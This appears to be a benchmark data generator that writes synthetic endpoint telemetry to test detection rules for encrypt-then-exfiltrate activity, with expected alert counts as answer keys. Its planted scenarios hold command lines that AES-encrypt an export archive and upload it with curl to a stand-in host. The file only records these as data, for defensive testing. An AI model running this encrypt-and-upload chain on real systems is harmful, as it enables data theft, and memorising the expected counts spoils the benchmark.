// npm run bench:data — writes the benchmark datasets: ECS NDJSON (nested, as purple's collectors
// and Elastic Defend write it) at 1M and 10M events, seeded and deterministic, with the expected
// alert counts of both rule packs beside each file (<name>.expected.json).
//
// The mix: benign process, network, library and file events from 200 hosts (Linux and macOS),
// several users and a churning process tree per host; about 0.1% encryption events, each inside a
// planted scenario (bench/lib/scenarios.ts): true DET0503 sequences at every join strength and near
// misses (bench/lib/scenarios.ts says which, and what each must raise). Scenarios run under a per-host scenario user that benign activity never uses, in slots
// far enough apart (> the longest rule window) that no two scenarios, and no scenario and benign
// event, can correlate: so the expected counts follow from what was planted.
//
// Usage: tsx bench/gen-data.ts [--sizes 1m,10m] [--seed 20250115] [--out bench/data] [--force]

import { createWriteStream, existsSync, mkdirSync, readFileSync, renameSync, statSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { join, resolve } from 'node:path';
import { createRng, type Rng } from './lib/prng.js';
import { SCENARIOS, expectedAlerts, type ScenarioKind } from './lib/scenarios.js';

export const GENERATOR_VERSION = 2;
const START_US = Date.UTC(2025, 0, 15, 0, 0, 0) * 1000;
/** Mean gap between events, fleet-wide: 100 events/s. */
const EVENT_GAP_US = 10_000;
const HOSTS = 200;
const MACOS_SHARE = 0.25;
/** A scenario's events lie in [slot start, slot start + 800 s]; slots are 1500 s apart per host. */
const SLOT_US = 1_500_000_000;

interface User {
  name: string;
  id: string;
}
interface Proc {
  pid: number;
  entityId: string;
  name: string;
  exe: string;
  args: string[];
  user: User;
  parent: Proc | null;
  start: string;
  signingId?: string;
  daemon?: boolean;
  browser?: boolean;
}
interface Host {
  id: string;
  name: string;
  os: 'linux' | 'macos';
  ip: string;
  users: User[];
  scenarioUser: User;
  daemons: Proc[];
  shells: Proc[];
  live: Proc[];
  nextPid: number;
}
type Ev = Record<string, unknown>;
interface Timed {
  ts: number;
  ev: Ev;
}

// ---------------------------------------------------------------------------------------------
// small helpers

function isoMicros(us: number): string {
  const ms = Math.floor(us / 1000);
  const iso = new Date(ms).toISOString(); // 2025-01-15T00:00:00.000Z
  return `${iso.slice(0, 23)}${String(us % 1000).padStart(3, '0')}Z`;
}

function hex(rng: Rng, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(rng.next() * 16)];
  return s;
}

function uuid(rng: Rng): string {
  return `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-8${hex(rng, 3)}-${hex(rng, 12)}`;
}

function basename(p: string): string {
  return p.slice(p.lastIndexOf('/') + 1);
}

function commandLine(args: string[]): string {
  return args.map((a) => (/[\s"']/.test(a) ? `"${a.replace(/(["\\])/g, '\\$1')}"` : a)).join(' ');
}

function publicIp(rng: Rng): string {
  const firsts = [13, 20, 34, 35, 52, 93, 104, 140, 151, 142, 172, 185, 199, 203];
  let a = rng.pick(firsts);
  if (a === 172) a = 173; // stay out of 172.16/12
  return `${a}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
}

// ---------------------------------------------------------------------------------------------
// benign catalogues. A few command lines contain "openssl", "gpg" or "python -c" without being
// encryption: they pass a cheap literal test and must still not fire.

const LINUX_CMDS: Array<[string, string[]]> = [
  ['/usr/bin/ls', ['ls', '-la', '/var/log']],
  ['/usr/bin/cat', ['cat', '/etc/hostname']],
  ['/usr/bin/grep', ['grep', '-r', 'ERROR', '/var/log/app']],
  ['/usr/bin/python3', ['python3', '/opt/app/worker.py', '--queue', 'default']],
  ['/usr/bin/python3', ['python3', '-m', 'pip', 'install', '-r', 'requirements.txt']],
  ['/usr/bin/curl', ['curl', '-s', 'https://api.internal.example/health']],
  ['/usr/bin/git', ['git', 'fetch', 'origin']],
  ['/usr/bin/node', ['node', '/srv/app/server.js']],
  ['/usr/bin/java', ['java', '-Xmx512m', '-jar', '/opt/svc/app.jar']],
  ['/usr/bin/tar', ['tar', 'czf', '/backup/etc.tgz', '/etc']],
  ['/usr/bin/rsync', ['rsync', '-a', '/srv/data/', 'backup01:/srv/data/']],
  ['/usr/bin/apt-get', ['apt-get', 'update']],
  ['/usr/bin/systemctl', ['systemctl', 'status', 'nginx']],
  ['/usr/bin/ps', ['ps', 'aux']],
  ['/usr/bin/sha256sum', ['sha256sum', '/srv/release/app.tar.gz']],
  ['/usr/bin/ssh', ['ssh', '-o', 'BatchMode=yes', 'deploy@build01', 'uptime']],
  ['/usr/bin/wget', ['wget', '-q', 'https://downloads.example.org/pkg.tar.gz']],
  ['/usr/bin/docker', ['docker', 'ps', '--format', '{{.Names}}']],
  ['/usr/bin/bash', ['bash', '-c', 'find /tmp -mtime +7 -delete']],
  ['/usr/bin/openssl', ['openssl', 's_client', '-connect', 'api.example.com:443', '-servername', 'api.example.com']],
  ['/usr/bin/openssl', ['openssl', 'x509', '-noout', '-dates', '-in', '/etc/ssl/certs/server.pem']],
  ['/usr/bin/gpg', ['gpg', '--verify', 'release.tar.gz.sig', 'release.tar.gz']],
  ['/usr/bin/python3', ['python3', '-c', 'import hashlib,sys; print(hashlib.sha256(open(sys.argv[1],"rb").read()).hexdigest())', '/srv/app.bin']],
];
const MACOS_CMDS: Array<[string, string[], string?]> = [
  ['/bin/ls', ['ls', '-la', '/Users/Shared'], 'com.apple.ls'],
  ['/usr/bin/python3', ['python3', '/Users/Shared/tools/report.py'], 'com.apple.python3'],
  ['/usr/bin/curl', ['curl', '-s', 'https://api.internal.example/health'], 'com.apple.curl'],
  ['/usr/bin/git', ['git', 'pull', '--ff-only'], 'com.apple.git'],
  ['/usr/bin/mdls', ['mdls', '/Applications/Safari.app'], 'com.apple.mdls'],
  ['/usr/sbin/softwareupdate', ['softwareupdate', '--list'], 'com.apple.softwareupdate'],
  ['/usr/bin/osascript', ['osascript', '-e', 'display notification "Build finished" with title "CI"'], 'com.apple.osascript'],
  ['/usr/bin/openssl', ['openssl', 's_client', '-connect', 'api.example.com:443'], 'com.apple.openssl'],
  ['/Applications/Slack.app/Contents/MacOS/Slack', ['Slack'], 'com.tinyspeck.slackmacgap'],
  ['/usr/local/bin/node', ['node', '/Users/Shared/app/index.js'], 'node'],
  ['/usr/bin/zip', ['zip', '-r', 'logs.zip', 'logs'], 'com.apple.zip'],
];
const LINUX_BROWSERS: Array<[string, string[]]> = [
  ['/usr/lib/firefox/firefox', ['firefox']],
  ['/usr/bin/chromium', ['chromium']],
  ['/opt/google/chrome/chrome', ['chrome']],
];
const MACOS_BROWSERS: Array<[string, string[], string]> = [
  ['/Applications/Firefox.app/Contents/MacOS/firefox', ['firefox'], 'org.mozilla.firefox'],
  ['/Applications/Safari.app/Contents/MacOS/Safari', ['Safari'], 'com.apple.Safari'],
  ['/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', ['Google Chrome'], 'com.google.Chrome'],
];
const LINUX_LIBS = ['/usr/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/x86_64-linux-gnu/libz.so.1', '/usr/lib/x86_64-linux-gnu/libm.so.6', '/usr/lib/x86_64-linux-gnu/libssl.so.3', '/usr/lib/x86_64-linux-gnu/libpthread.so.0', '/usr/lib/x86_64-linux-gnu/libstdc++.so.6', '/usr/lib/x86_64-linux-gnu/libcrypto.so.3'];
const MACOS_LIBS = ['/usr/lib/libSystem.B.dylib', '/usr/lib/libobjc.A.dylib', '/System/Library/Frameworks/Foundation.framework/Versions/C/Foundation', '/usr/lib/libz.1.dylib', '/usr/lib/libc++.1.dylib', '/usr/lib/system/libcommonCrypto.dylib'];
const FILES = ['/var/log/app/app.log', '/tmp/build.out', '/srv/data/cache.db', '/home/shared/report.csv', '/etc/hosts'];

// ---------------------------------------------------------------------------------------------
// events

class Fleet {
  readonly hosts: Host[] = [];
  constructor(private readonly rng: Rng) {
    const rnd = rng;
    const linuxUsers = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace'];
    const macUsers = ['kim', 'lee', 'max', 'noa', 'oli'];
    for (let i = 0; i < HOSTS; i++) {
      const os: Host['os'] = rnd.chance(MACOS_SHARE) ? 'macos' : 'linux';
      const names = os === 'linux' ? linuxUsers : macUsers;
      const base = os === 'linux' ? 1000 : 501;
      const users: User[] = [{ name: 'root', id: '0' }];
      const k = rnd.int(2, 4);
      const first = rnd.int(0, names.length - k);
      for (let u = 0; u < k; u++) users.push({ name: names[first + u]!, id: String(base + first + u) });
      const host: Host = {
        id: uuid(rnd),
        name: os === 'linux' ? `lnx-${rnd.pick(['web', 'db', 'build', 'app', 'dev'])}-${String(i).padStart(4, '0')}` : `mac-${String(i).padStart(4, '0')}`,
        os,
        ip: `10.${20 + (i >> 8)}.${i & 255}.${rnd.int(2, 250)}`,
        users,
        scenarioUser: os === 'linux' ? { name: 'deploy', id: '1500' } : { name: 'analyst', id: '1502' },
        daemons: [],
        shells: [],
        live: [],
        nextPid: 300,
      };
      const boot = isoMicros(START_US - rnd.int(3600, 86400 * 20) * 1_000_000);
      const init = this.proc(host, null, os === 'linux' ? '/usr/lib/systemd/systemd' : '/sbin/launchd', [os === 'linux' ? 'systemd' : 'launchd'], users[0]!, boot, 1);
      init.daemon = true;
      const daemonCmds: Array<[string, string[]]> =
        os === 'linux'
          ? [
              ['/usr/sbin/sshd', ['sshd', '-D']],
              ['/usr/sbin/cron', ['cron', '-f']],
              ['/usr/lib/systemd/systemd-resolved', ['systemd-resolved']],
              ['/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']],
            ]
          : [
              ['/usr/sbin/sshd', ['sshd', '-i']],
              ['/usr/sbin/mDNSResponder', ['mDNSResponder']],
              ['/usr/libexec/trustd', ['trustd']],
            ];
      host.daemons.push(init);
      for (const [exe, args] of daemonCmds) {
        const d = this.proc(host, init, exe, args, users[0]!, boot);
        d.daemon = true;
        host.daemons.push(d);
      }
      for (const u of users.slice(1)) {
        const sh = this.proc(host, host.daemons[1]!, os === 'linux' ? '/usr/bin/bash' : '/bin/zsh', [os === 'linux' ? '-bash' : '-zsh'], u, boot);
        sh.daemon = true;
        host.shells.push(sh);
      }
      this.hosts.push(host);
    }
  }

  proc(host: Host, parent: Proc | null, exe: string, args: string[], user: User, start: string, pid?: number, signingId?: string): Proc {
    const p: Proc = {
      pid: pid ?? host.nextPid++,
      entityId: hex(this.rng, 24),
      name: basename(exe),
      exe,
      args,
      user,
      parent,
      start,
    };
    if (host.nextPid > 4_000_000) host.nextPid = 300;
    if (host.os === 'macos') p.signingId = signingId ?? `com.apple.${p.name}`;
    return p;
  }
}

function base(host: Host, p: Proc, ts: number, category: string, type: string, action: string): Ev {
  return {
    '@timestamp': isoMicros(ts),
    ecs: { version: '8.11.0' },
    event: { id: '', kind: 'event', category: [category], type: [type], action, dataset: 'bench' },
    host: { name: host.name, id: host.id, os: { type: host.os } },
    user: { name: p.user.name, id: p.user.id },
  };
}

function procRef(p: Proc, full: boolean): Record<string, unknown> {
  const out: Record<string, unknown> = { pid: p.pid, entity_id: p.entityId, name: p.name, executable: p.exe };
  if (full) {
    out.command_line = commandLine(p.args);
    out.args = p.args;
    out.args_count = p.args.length;
    out.start = p.start;
  }
  if (p.parent) out.parent = { pid: p.parent.pid, entity_id: p.parent.entityId, name: p.parent.name, executable: p.parent.exe };
  if (p.signingId) out.code_signature = { signing_id: p.signingId, platform_binary: p.signingId.startsWith('com.apple.') };
  return out;
}

function execEv(host: Host, p: Proc, ts: number, action = 'exec'): Ev {
  const e = base(host, p, ts, 'process', 'start', action);
  e.process = procRef(p, true);
  return e;
}

function exitEv(host: Host, p: Proc, ts: number): Ev {
  const e = base(host, p, ts, 'process', 'end', 'end');
  e.process = procRef(p, false);
  return e;
}

function netEv(host: Host, p: Proc, ts: number, rng: Rng, opts: { dst?: string; port?: number; ingress?: boolean; udp?: boolean } = {}): Ev {
  const e = base(host, p, ts, 'network', 'start', opts.ingress ? 'connection_accepted' : 'connection_attempted');
  e.process = procRef(p, false);
  const dst = opts.dst ?? publicIp(rng);
  const port = opts.port ?? rng.pick([443, 443, 443, 80, 22, 8443]);
  if (opts.ingress) {
    e.source = { ip: publicIp(rng), port: rng.int(32768, 60999) };
    e.destination = { ip: host.ip, port: opts.port ?? 22 };
  } else {
    e.source = { ip: host.ip, port: rng.int(32768, 60999) };
    e.destination = { ip: dst, port };
  }
  e.network = { transport: opts.udp ? 'udp' : 'tcp', direction: opts.ingress ? 'ingress' : 'egress', type: 'ipv4' };
  return e;
}

function libEv(host: Host, p: Proc, ts: number, path: string): Ev {
  const e = base(host, p, ts, 'library', 'start', 'load');
  e.process = procRef(p, false);
  e.dll = { path, name: basename(path) };
  return e;
}

function fileEv(host: Host, p: Proc, ts: number, path: string): Ev {
  const e = base(host, p, ts, 'file', 'change', 'modification');
  e.process = procRef(p, false);
  e.file = { path, name: basename(path) };
  return e;
}

// ---------------------------------------------------------------------------------------------
// benign activity

function benignEvent(fleet: Fleet, rng: Rng, ts: number): Ev {
  const host = fleet.hosts[Math.floor(rng.next() * fleet.hosts.length)]!;
  const r = rng.next();
  const pool = host.live.length ? host.live : host.shells;
  if (r < 0.2 || host.live.length < 5) {
    if (host.live.length >= 40) return exitOne(host, rng, ts);
    const parent = rng.chance(0.6) ? rng.pick(host.shells) : rng.chance(0.5) ? rng.pick(host.daemons) : (rng.pick(pool) ?? host.daemons[0]!);
    const user = parent.user.id === '0' && rng.chance(0.5) ? parent.user : parent.user.id === '0' ? rng.pick(host.users) : parent.user;
    let p: Proc;
    if (rng.chance(0.05)) {
      const [exe, args, sid] = host.os === 'linux' ? [...rng.pick(LINUX_BROWSERS), undefined] : rng.pick(MACOS_BROWSERS);
      p = fleet.proc(host, parent, exe, args, user, isoMicros(ts), undefined, sid);
      p.browser = true;
    } else if (host.os === 'linux') {
      const [exe, args] = rng.pick(LINUX_CMDS);
      p = fleet.proc(host, parent, exe, args, user, isoMicros(ts));
    } else {
      const [exe, args, sid] = rng.pick(MACOS_CMDS);
      p = fleet.proc(host, parent, exe, args, user, isoMicros(ts), undefined, sid);
    }
    host.live.push(p);
    return execEv(host, p, ts);
  }
  if (r < 0.38) return exitOne(host, rng, ts);
  if (r < 0.88) {
    const p = rng.chance(0.85) ? rng.pick(pool) : rng.pick(host.daemons);
    if (p.name === 'sshd' || (rng.chance(0.08) && p.daemon)) return netEv(host, p, ts, rng, { ingress: true, port: p.name === 'nginx' ? 443 : 22 });
    if (p.name === 'systemd-resolved' || p.name === 'mDNSResponder') return netEv(host, p, ts, rng, { port: 53, udp: true, dst: host.os === 'linux' ? '10.0.0.53' : '224.0.0.251' });
    return netEv(host, p, ts, rng);
  }
  const p = rng.pick(pool);
  if (r < 0.95) return libEv(host, p, ts, rng.pick(host.os === 'linux' ? LINUX_LIBS : MACOS_LIBS));
  return fileEv(host, p, ts, rng.pick(FILES));
}

function exitOne(host: Host, rng: Rng, ts: number): Ev {
  const i = Math.floor(rng.next() * host.live.length);
  const p = host.live[i]!;
  host.live[i] = host.live[host.live.length - 1]!;
  host.live.pop();
  return exitEv(host, p, ts);
}

// ---------------------------------------------------------------------------------------------
// planted scenarios

const LINUX_ENC_CHILD: string[][] = [
  ['openssl', 'enc', '-aes-256-cbc', '-salt', '-pbkdf2', '-in', '/tmp/export.tar', '-out', '/tmp/export.tar.enc', '-pass', 'env:K'],
  ['gpg', '--batch', '--symmetric', '--cipher-algo', 'AES256', '-o', '/tmp/export.gpg', '/tmp/export.tar'],
  ['openssl', 'aes-256-ctr', '-in', '/tmp/export.tar', '-out', '/tmp/export.bin', '-K', '00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff', '-iv', '0102030405060708090a0b0c0d0e0f10'],
];
const PY_AES = ['python3', '-c', 'from Crypto.Cipher import AES; import sys; c = AES.new(open("/run/k","rb").read(), AES.MODE_GCM); sys.stdout.buffer.write(c.encrypt(open(sys.argv[1],"rb").read()))', '/tmp/export.tar'];
const JXA_AES = ['osascript', '-l', 'JavaScript', '-e', 'ObjC.import("CommonCrypto"); $.CCCrypt($.kCCEncrypt, $.kCCAlgorithmAES, 0, key, 32, iv, data, n, out, cap, moved)'];
// Encryption-only modules (EncryptionRoutinePattern.library). libcrypto and CommonCrypto are not:
// every TLS client loads them, so benign processes load them here too.
const CRYPTO_LIBS_LINUX = ['/usr/lib/python3/dist-packages/cryptography/hazmat/bindings/_rust.abi3.so', '/usr/lib/python3/dist-packages/Crypto/Cipher/_raw_aes.cpython-311-x86_64-linux-gnu.so'];
const CRYPTO_LIBS_MACOS = ['/opt/homebrew/lib/python3.12/site-packages/cryptography/hazmat/bindings/_rust.abi3.so', '/Library/Python/3.9/site-packages/Crypto/Cipher/_raw_aes.abi3.so'];

class Planter {
  private t = 0;
  readonly out: Timed[] = [];
  constructor(
    private readonly fleet: Fleet,
    private readonly rng: Rng,
    private readonly host: Host,
    start: number,
  ) {
    // Odd microseconds: benign events sit on even ones, so no two events share a timestamp.
    this.t = start % 2 === 0 ? start + 1 : start;
  }
  /** Moves the clock forward by `s` seconds (to an odd microsecond) and returns it. */
  at(s: number): number {
    this.t += Math.max(2, Math.round((s * 1_000_000) / 2) * 2);
    return this.t;
  }
  emit(ev: Ev, ts: number): void {
    this.out.push({ ts, ev });
  }
  spawn(parent: Proc, exe: string, args: string[], signingId?: string, action = 'exec'): Proc {
    const ts = this.at(this.rng.next() * 2 + 0.05);
    const p = this.fleet.proc(this.host, parent, exe, args, this.host.scenarioUser, isoMicros(ts), undefined, signingId);
    this.emit(execEv(this.host, p, ts, action), ts);
    return p;
  }
  shell(): Proc {
    const h = this.host;
    return this.spawn(h.daemons[1]!, h.os === 'linux' ? '/usr/bin/bash' : '/bin/zsh', [h.os === 'linux' ? '-bash' : '-zsh'], h.os === 'macos' ? 'com.apple.zsh' : undefined);
  }
  /** A process whose exec is itself the encryption routine, or that then loads a crypto library. */
  encryptor(parent: Proc, canUpload: boolean): Proc {
    const h = this.host;
    const r = this.rng;
    if (r.chance(0.35)) {
      const exe = h.os === 'linux' ? '/usr/bin/python3' : '/usr/bin/python3';
      const p = this.spawn(parent, exe, ['python3', '/opt/tools/sync.py', '--push'], h.os === 'macos' ? 'com.apple.python3' : undefined);
      const ts = this.at(r.next() * 0.5 + 0.01);
      this.emit(libEv(h, p, ts, r.pick(h.os === 'linux' ? CRYPTO_LIBS_LINUX : CRYPTO_LIBS_MACOS)), ts);
      return p;
    }
    if (canUpload || r.chance(0.4)) {
      if (h.os === 'macos' && r.chance(0.5)) return this.spawn(parent, '/usr/bin/osascript', JXA_AES, 'com.apple.osascript');
      return this.spawn(parent, '/usr/bin/python3', PY_AES, h.os === 'macos' ? 'com.apple.python3' : undefined);
    }
    const args = r.pick(LINUX_ENC_CHILD);
    return this.spawn(parent, `/usr/bin/${args[0]}`, args, h.os === 'macos' ? `com.apple.${args[0]}` : undefined);
  }
  uploader(parent: Proc): Proc {
    const sid = this.host.os === 'macos' ? 'com.apple.curl' : undefined;
    return this.spawn(parent, '/usr/bin/curl', ['curl', '-sS', '-T', '/tmp/export.tar.enc', `https://files-${this.rng.int(1, 99)}.example.net/upload`], sid);
  }
  connect(p: Proc, afterS: number, opts: Parameters<typeof netEv>[4] = {}): void {
    const ts = this.at(afterS);
    this.emit(netEv(this.host, p, ts, this.rng, { port: 443, ...opts }), ts);
  }
  exit(p: Proc): void {
    const ts = this.at(this.rng.next() * 2 + 0.05);
    this.emit(exitEv(this.host, p, ts), ts);
  }
}

function plant(kind: ScenarioKind, fleet: Fleet, rng: Rng, host: Host, start: number): Timed[] {
  const s = new Planter(fleet, rng, host, start);
  const inWindow = (): number => rng.next() * 54 + 0.2;
  const q = s.shell();
  switch (kind) {
    case 'same-process':
    case 'near-window':
    case 'near-excluded-destination':
    case 'near-ingress': {
      const p = s.encryptor(q, true);
      const gap = kind === 'near-window' ? 61 + rng.next() * 529 : inWindow();
      if (kind === 'near-excluded-destination') s.connect(p, gap, { dst: rng.pick(['224.0.0.251', '239.255.255.250', '255.255.255.255']), port: rng.pick([5353, 1900, 67]), udp: true });
      else if (kind === 'near-ingress') s.connect(p, gap, { ingress: true, port: 8443 });
      else s.connect(p, gap);
      s.exit(p);
      break;
    }
    case 'parent-child': {
      const p = s.encryptor(q, true);
      const c = s.uploader(p);
      s.connect(c, rng.next() * 20 + 0.1);
      s.exit(c);
      s.exit(p);
      break;
    }
    case 'child-parent': {
      const p = s.spawn(q, '/usr/bin/python3', ['python3', '/opt/tools/backup.py', '--remote'], host.os === 'macos' ? 'com.apple.python3' : undefined);
      const args = rng.pick(LINUX_ENC_CHILD);
      const c = s.spawn(p, `/usr/bin/${args[0]}`, args, host.os === 'macos' ? `com.apple.${args[0]}` : undefined);
      s.exit(c);
      s.connect(p, rng.next() * 30 + 0.1);
      s.exit(p);
      break;
    }
    case 'siblings': {
      const a = s.encryptor(q, false);
      s.exit(a);
      const b = s.uploader(q);
      s.connect(b, rng.next() * 20 + 0.1);
      s.exit(b);
      break;
    }
    case 'same-user-host': {
      const a = s.encryptor(q, false);
      s.exit(a);
      const q2 = s.shell();
      const b = s.uploader(q2);
      s.connect(b, rng.next() * 20 + 0.1);
      s.exit(b);
      s.exit(q2);
      break;
    }
    case 'near-browser': {
      const p = s.encryptor(q, false);
      s.exit(p);
      const [exe, args, sid] = host.os === 'linux' ? [...rng.pick(LINUX_BROWSERS), undefined] : rng.pick(MACOS_BROWSERS);
      const b = s.spawn(q, exe, args, sid);
      s.connect(b, rng.next() * 20 + 0.1);
      s.exit(b);
      break;
    }
    case 'near-no-upload': {
      const args = ['gpg', '--batch', '--symmetric', '--cipher-algo', 'AES256', '-o', '/backup/home.tar.gpg', '/backup/home.tar'];
      const p = s.spawn(q, '/usr/bin/gpg', args, host.os === 'macos' ? 'org.gpgtools.gpg' : undefined);
      s.exit(p);
      break;
    }
    case 'near-fork': {
      const p = s.spawn(q, '/usr/bin/python3', PY_AES, host.os === 'macos' ? 'com.apple.python3' : undefined, 'fork');
      s.connect(p, inWindow());
      s.exit(p);
      break;
    }
  }
  s.exit(q);
  return s.out;
}

// ---------------------------------------------------------------------------------------------
// one dataset

export interface DatasetInfo {
  generator_version: number;
  seed: number;
  events: number;
  bytes: number;
  file: string;
  hosts: number;
  first_timestamp: string;
  last_timestamp: string;
  categories: Record<string, number>;
  encryption_events: number;
  planted: Partial<Record<ScenarioKind, number>>;
  expected: { eql: ReturnType<typeof expectedAlerts>; sigma: ReturnType<typeof expectedAlerts> };
  scenarios: Array<{ kind: string; description: string; eql: Record<string, number>; sigma: Record<string, number> }>;
}

export async function generate(events: number, seed: number, file: string): Promise<DatasetInfo> {
  const rng = createRng(seed);
  const fleet = new Fleet(rng);
  const spanUs = events * EVENT_GAP_US;

  // Plan the scenarios: counts per kind, then random free slots (host, slot index).
  const planted: Partial<Record<ScenarioKind, number>> = {};
  const kinds: ScenarioKind[] = [];
  for (const spec of SCENARIOS) {
    const n = Math.round((spec.perMillion * events) / 1_000_000);
    planted[spec.kind] = n;
    for (let i = 0; i < n; i++) kinds.push(spec.kind);
  }
  const slotsPerHost = Math.floor((spanUs - 900_000_000) / SLOT_US);
  const slots: Array<[number, number]> = [];
  for (let h = 0; h < fleet.hosts.length; h++) for (let k = 0; k < slotsPerHost; k++) slots.push([h, k]);
  if (slots.length < kinds.length) throw new Error(`${events} events leave ${slots.length} scenario slots for ${kinds.length} scenarios`);
  rng.shuffle(slots);
  rng.shuffle(kinds);
  let planned: Timed[] = [];
  kinds.forEach((kind, i) => {
    const [h, k] = slots[i]!;
    const start = START_US + k * SLOT_US + rng.int(1, 200) * 1_000_000;
    planned.push(...plant(kind, fleet, rng, fleet.hosts[h]!, start));
  });
  planned.sort((a, b) => a.ts - b.ts);
  const last = planned[planned.length - 1];
  if (last && last.ts >= START_US + spanUs) throw new Error('a scenario runs past the end of the dataset');
  if (planned.length >= events) throw new Error('too few events for the planted scenarios');

  const benignCount = events - planned.length;
  const gap = Math.floor(spanUs / benignCount / 2) * 2;
  const categories: Record<string, number> = {};
  let encryption = 0;
  let bytes = 0;
  let written = 0;
  let pi = 0;
  const tmp = `${file}.partial`;
  const out = createWriteStream(tmp);
  let buf: string[] = [];
  let bufLen = 0;
  const write = async (ev: Ev): Promise<void> => {
    (ev.event as { id: string }).id = `ev-${(written++).toString(36).padStart(7, '0')}`;
    const cat = (ev.event as { category: string[] }).category[0]!;
    categories[cat] = (categories[cat] ?? 0) + 1;
    const line = JSON.stringify(ev) + '\n';
    bytes += Buffer.byteLength(line);
    buf.push(line);
    bufLen += line.length;
    if (bufLen > 1 << 22) {
      const ok = out.write(buf.join(''));
      buf = [];
      bufLen = 0;
      if (!ok) await once(out, 'drain');
    }
  };
  const first = START_US;
  let lastTs = first;
  for (let i = 0; i < benignCount; i++) {
    // Even microseconds, strictly increasing, jittered inside the gap.
    const ts = first + i * gap + Math.floor(rng.next() * (gap / 2 - 1)) * 2;
    while (pi < planned.length && planned[pi]!.ts < ts) {
      const p = planned[pi++]!;
      const e = p.ev as { event: { category: string[]; action: string }; dll?: { path: string }; process?: { command_line?: string } };
      if (e.dll?.path && /_rust\.abi3|_raw_aes/.test(e.dll.path)) encryption++;
      else if (e.event.category[0] === 'process' && e.event.action === 'exec' && /enc |aes|symmetric|AES/.test(e.process?.command_line ?? '')) encryption++;
      await write(p.ev);
    }
    await write(benignEvent(fleet, rng, ts));
    lastTs = ts;
  }
  while (pi < planned.length) await write(planned[pi++]!.ev);
  if (buf.length) out.write(buf.join(''));
  await new Promise<void>((res, rej) => out.end((e?: Error | null) => (e ? rej(e) : res())));
  renameSync(tmp, file);
  planned = [];
  return {
    generator_version: GENERATOR_VERSION,
    seed,
    events: written,
    bytes,
    file,
    hosts: fleet.hosts.length,
    first_timestamp: isoMicros(first),
    last_timestamp: isoMicros(Math.max(lastTs, last?.ts ?? 0)),
    categories,
    encryption_events: encryption,
    planted,
    expected: { eql: expectedAlerts(planted, 'eql'), sigma: expectedAlerts(planted, 'sigma') },
    scenarios: SCENARIOS.map((s) => ({ kind: s.kind, description: s.description, eql: { ...s.eql }, sigma: { ...s.sigma } })),
  };
}

export function datasetName(events: number): string {
  return events % 1_000_000 === 0 ? `events-${events / 1_000_000}m` : `events-${events}`;
}

export function parseSize(s: string): number {
  const m = /^(\d+(?:\.\d+)?)([km]?)$/i.exec(s.trim());
  if (!m) throw new Error(`bad size ${JSON.stringify(s)}: use e.g. 1m, 10m, 250k or 5000`);
  const mult = m[2]!.toLowerCase() === 'm' ? 1_000_000 : m[2]!.toLowerCase() === 'k' ? 1_000 : 1;
  return Math.round(Number(m[1]) * mult);
}

/** Writes (or reuses, when present and made by this generator with this seed) one dataset. */
export async function ensureDataset(outDir: string, events: number, seed: number, force = false, log: (s: string) => void = () => {}): Promise<DatasetInfo> {
  mkdirSync(outDir, { recursive: true });
  const name = datasetName(events);
  const file = resolve(join(outDir, `${name}.ndjson`));
  const infoFile = resolve(join(outDir, `${name}.expected.json`));
  if (!force && existsSync(file) && existsSync(infoFile)) {
    const info = JSON.parse(readFileSync(infoFile, 'utf8')) as DatasetInfo;
    if (info.generator_version === GENERATOR_VERSION && info.seed === seed && info.events === events && statSync(file).size === info.bytes) {
      log(`${name}: reusing ${file}`);
      return { ...info, file };
    }
  }
  const t0 = process.hrtime.bigint();
  log(`${name}: generating ${events.toLocaleString('en')} events (seed ${seed}) …`);
  const info = await generate(events, seed, file);
  writeFileSync(infoFile, JSON.stringify(info, null, 2) + '\n');
  log(`${name}: ${(info.bytes / 1e6).toFixed(0)} MB in ${(Number(process.hrtime.bigint() - t0) / 1e9).toFixed(1)} s; expected alerts EQL ${info.expected.eql.total}, Sigma ${info.expected.sigma.total}`);
  return info;
}

async function main(): Promise<void> {
  const argv = process.argv.slice(2);
  const opt = (name: string, dflt: string): string => {
    const i = argv.indexOf(name);
    return i >= 0 && argv[i + 1] ? argv[i + 1]! : dflt;
  };
  const sizes = opt('--sizes', '1m,10m').split(',').map(parseSize);
  const seed = Number(opt('--seed', '20250115'));
  const out = opt('--out', 'bench/data');
  for (const n of sizes) await ensureDataset(out, n, seed, argv.includes('--force'), (s) => console.log(s));
}

if (process.argv[1] && resolve(process.argv[1]).replace(/\.[cm]?[jt]s$/, '') === resolve(new URL(import.meta.url).pathname).replace(/\.[cm]?[jt]s$/, '')) {
  main().catch((e: unknown) => {
    console.error(e instanceof Error ? e.message : e);
    process.exit(1);
  });
}
